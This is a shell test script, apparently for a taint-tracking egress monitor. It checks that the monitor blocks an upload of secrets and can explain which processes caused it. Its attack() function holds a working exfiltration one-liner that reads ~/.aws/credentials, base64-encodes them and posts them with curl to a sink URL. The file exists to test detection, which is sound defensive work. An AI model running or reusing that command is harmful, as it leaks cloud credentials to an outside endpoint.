# SPDX-License-Identifier: Apache-2.0
TITLE="after egret run the history tells reader, way and sender of a stopped upload"
# The readers live for a second, so that they can be looked at.
attack() { cat "$HOME/.aws/credentials" <(sleep 1) | base64 -w0 | curl -s -m $((5 * EGRET_SLOW)) -d @- "$URL/"; }
check() {
	local id
	told kind=system 'text=*started*' -- kind=taint source=read 'exe=*/cat' 'path=*/.aws/credentials' classes=aws within=60 -- \
		kind=taint source=pipe 'exe=*/base64' -- kind=taint source=pipe 'exe=*/curl' -- \
		kind=flow verdict=deny 'exe=*/curl' "destination=$SINK4:80" classes=aws proto=tcp 'sentence=*no rule*' within=60 || return
	id=$(told kind=flow verdict=deny 'exe=*/curl') || return
	why "$id" role=subject kind=flow verdict=deny "address=$SINK4" port=80 -- role=cause level=1 source=pipe 'exe=*/curl' -- \
		role=cause level=2 source=pipe 'exe=*/base64' -- \
		role=cause level=3 source=read 'exe=*/cat' 'path=*/.aws/credentials' 'watch=catalog:aws:*' || return
	why "$id" role!=gap || return
	why_words "$id" | tr '\n' ' ' | grep -E 'curl.* wanted to go to 10\.99\.0\.2:80, carrying aws.*deny; .*curl.*base64.*cat\[[0-9]+\] read .*/\.aws/credentials'
}
